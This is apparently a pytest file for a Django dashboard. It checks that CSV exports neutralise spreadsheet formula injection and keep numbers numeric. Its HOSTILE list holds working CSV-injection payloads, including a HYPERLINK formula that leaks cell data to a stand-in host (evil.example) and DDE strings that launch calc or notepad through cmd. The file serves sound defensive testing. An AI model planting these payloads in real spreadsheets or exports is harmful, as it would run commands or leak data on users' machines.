"""CSV exports neutralise spreadsheet formulas in every text cell and keep numbers numbers (issue 12, item 1).

The hostile store is a copy of Alpine Gear's marts under another merchant id, with names an attacker can
choose (utm_campaign, Klaviyo campaign and flow names, channels, providers) replaced by formulas. The rows
are committed through the warehouse connection (it is not inside the test's transaction) and removed after.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import psycopg
import pytest
from django.urls import reverse

from accounts.choices import Role
from analytics.selectors import warehouse_connection_params
from dashboards.exports import CSV_TABLES, FORMULA_TRIGGERS, csv_cell, csv_lines
from tests.accounts.factories import MembershipFactory, MerchantFactory
from tests.dashboards.conftest import MART_MERCHANTS

pytestmark = pytest.mark.django_db(databases=["default", "warehouse"])

HOSTILE_ID = 910099
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # fullwidth equals sign
]
HOSTILE_CHANNEL = "-2+3+cmd|' /C calc'!A0 channel"
NEGATIVE_REVENUE = Decimal("-5.00")

MARTS = ["fct_daily_summary", "fct_ltv", "fct_attribution_daily", "fct_channel_daily", "fct_email_engagement",
         "fct_sms_engagement"]  # fmt: skip
# Text columns whose values come from raw data, overwritten with the hostile names in turn.
HOSTILE_COLUMNS = {
    "fct_attribution_daily": ["campaign"],
    "fct_email_engagement": ["campaign_or_flow_id", "campaign_or_flow_name", "provider", "message_type"],
    "fct_sms_engagement": ["campaign_or_flow_id", "campaign_or_flow_name", "provider", "message_type"],
}


def _make_hostile(conn, column: str) -> None:
    """Each distinct value of the column becomes one of HOSTILE in turn, followed by the value itself (so
    groups stay apart and every hostile name is used)."""
    names = ", ".join("'" + name.replace("'", "''") + "'" for name in HOSTILE)
    conn.execute(
        f"""
        update copy set {column} = h.new
        from (select v, (array[{names}])[1 + (dense_rank() over (order by v) - 1) % {len(HOSTILE)}] || ' ' || v as new
              from (select distinct {column} as v from copy where {column} is not null) d) h
        where copy.{column} = h.v
        """
    )


def _is_neutralised(cell: str) -> bool:
    return any(cell.startswith("'" + name + " ") for name in HOSTILE)


@pytest.fixture(scope="module")
def hostile_marts(marts, django_db_blocker):
    """Alpine's marts copied to HOSTILE_ID with hostile names, one channel renamed, the last days' revenue negative."""
    source = MART_MERCHANTS[0]["id"]
    with django_db_blocker.unblock(), psycopg.connect(**warehouse_connection_params()) as conn:
        for table in MARTS:
            conn.execute(f"delete from analytics.{table} where merchant_id = %s", [HOSTILE_ID])
            conn.execute(f"create temp table copy (like analytics.{table}) on commit drop")
            conn.execute(f"insert into copy select * from analytics.{table} where merchant_id = %s", [source])
            conn.execute("update copy set merchant_id = %s", [HOSTILE_ID])
            for column in HOSTILE_COLUMNS.get(table, []):
                _make_hostile(conn, column)
            if table in ("fct_attribution_daily", "fct_channel_daily"):
                conn.execute("update copy set channel = %s where channel = 'paid_search'", [HOSTILE_CHANNEL])
            if table == "fct_daily_summary":
                conn.execute(
                    "update copy set net_revenue = %s where date_day > (select max(date_day) - 5 from copy)",
                    [NEGATIVE_REVENUE],
                )
            conn.execute(f"insert into analytics.{table} select * from copy")
            conn.commit()
    yield
    with django_db_blocker.unblock(), psycopg.connect(**warehouse_connection_params()) as conn:
        for table in MARTS:
            conn.execute(f"delete from analytics.{table} where merchant_id = %s", [HOSTILE_ID])
        conn.commit()


@pytest.fixture
def hostile_client(hostile_marts, client, clerk):
    merchant = MerchantFactory(pk=HOSTILE_ID, key="dash_hostile", name="=HYPERLINK(\"x\")", timezone="America/New_York",
                               currency="USD", shop_domain="dash-hostile.myshopify.com")  # fmt: skip
    MembershipFactory(clerk_user_id=clerk.user("user_mallory"), merchant=merchant, role=Role.VIEWER)
    client.cookies["__session"] = clerk.token("user_mallory")
    client.merchant = merchant
    return client


def _export(client, table: str, **params) -> tuple[str, list[list[str]]]:
    response = client.get(reverse("dashboards:export_csv", args=[client.merchant.pk, table]), params)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return text, list(csv.reader(io.StringIO(text)))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_TRIGGERS):
                # Only a number may start with a minus sign, and it is written unquoted.
                Decimal(cell)


# --- the one function -------------------------------------------------------------------------------


@pytest.mark.parametrize("value", [*HOSTILE, "=", "-", "+", "@", "\t", "\r", "\uff0b1", "\uff0d1", "\uff201"])
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["paid_search", "Summer sale", "", " =1+1", "a=1", "'quoted", "2026-01-01", "5-3"])
def test_plain_text_is_left_alone(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [-5, Decimal("-5"), Decimal("-0.01"), -2.5, 0, Decimal("12.30"), True])
def test_numbers_stay_numbers(value):
    assert csv_cell(value) is value


def test_none_is_an_empty_cell_and_other_objects_are_text():
    class Name:
        def __str__(self):
            return "=1+1"

    assert csv_cell(None) == ""
    assert csv_cell(Name()) == "'=1+1"


def test_csv_lines_quote_text_and_write_numbers_bare():
    lines = list(csv_lines([["name", "revenue"], ["=1+1", Decimal("-5.00")], ["a;=2+2", -3], [None, 1.5]]))
    assert lines == ['"name","revenue"\r\n', '"\'=1+1",-5.00\r\n', '"a;=2+2",-3\r\n', '"",1.5\r\n']


# --- every export -----------------------------------------------------------------------------------


def test_every_export_is_tested_here():
    assert set(CSV_TABLES) == {"overview-daily", "ltv-cohorts", "attribution-channels", "attribution-comparison",
                               "attribution-campaigns", "engagement-summary", "engagement-messages",
                               "engagement-daily"}  # fmt: skip


def test_attribution_campaigns_export_neutralises_campaign_and_channel_names(hostile_client):
    _, rows = _export(hostile_client, "attribution-campaigns")
    _assert_no_formula(rows)
    campaigns = [r[2] for r in rows[1:] if r[2]]
    assert campaigns and all(_is_neutralised(c) for c in campaigns)
    assert len({name for name in HOSTILE for c in campaigns if c.startswith("'" + name)}) >= 3
    assert "'" + HOSTILE_CHANNEL in {r[1] for r in rows[1:]}


@pytest.mark.parametrize("table", ["attribution-channels", "attribution-comparison"])
def test_attribution_channel_exports_neutralise_channel_names(hostile_client, table):
    _, rows = _export(hostile_client, table)
    _assert_no_formula(rows)
    assert "'" + HOSTILE_CHANNEL in {r[0 if table == "attribution-comparison" else 1] for r in rows[1:]}


def test_engagement_messages_export_neutralises_names_ids_providers_and_types(hostile_client):
    _, rows = _export(hostile_client, "engagement-messages")
    _assert_no_formula(rows)
    header = rows[0]
    for column in ("provider", "message_type", "id", "name"):
        values = [r[header.index(column)] for r in rows[1:]]
        # A NULL message type is "other" (selectors), the one text here that is ours.
        assert values and all(_is_neutralised(v) or v == "other" for v in values), column


def test_engagement_summary_export_neutralises_providers_and_types(hostile_client):
    _, rows = _export(hostile_client, "engagement-summary")
    _assert_no_formula(rows)
    assert len(rows) > 1 and all(_is_neutralised(r[1]) and (_is_neutralised(r[2]) or r[2] == "other") for r in rows[1:])


def test_overview_export_keeps_a_negative_revenue_a_number(hostile_client):
    text, rows = _export(hostile_client, "overview-daily")
    _assert_no_formula(rows)
    assert "-5.00" in [r[2] for r in rows[1:]]
    assert ",-5.00," in text and "'-5" not in text  # written bare: a spreadsheet reads a number


@pytest.mark.parametrize("table", ["ltv-cohorts", "engagement-daily"])
def test_numeric_exports_write_numbers_bare_and_text_quoted(hostile_client, table):
    text, rows = _export(hostile_client, table)
    _assert_no_formula(rows)
    assert len(rows) > 1
    first_data_line = text.splitlines()[1]
    assert first_data_line.startswith('"') and first_data_line.endswith('"USD"')
    assert any(cell and cell[0].isdigit() for cell in first_data_line.split(",")[1:])
